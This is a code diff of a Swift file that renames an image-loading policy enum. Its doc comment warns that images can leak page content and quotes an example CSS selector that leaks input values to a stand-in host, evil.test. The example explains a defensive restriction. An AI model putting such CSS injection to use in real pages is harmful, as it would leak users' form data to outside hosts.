@@ -2,7 +2,7 @@
 ///
 /// An image is a request, so a page that loads images can reveal its content: a style such as
 /// `input[value^="a"] { background: url(https://evil.test/a) }` requests a different address for each value.
-package enum PageImages: String, Sendable, CaseIterable {
+package enum ImagePolicy: String, Sendable, CaseIterable {
   case none
   /// Images of any host, with `https:`. The mirror itself uses `http:`, so no image is a request to the mirror.
   case https
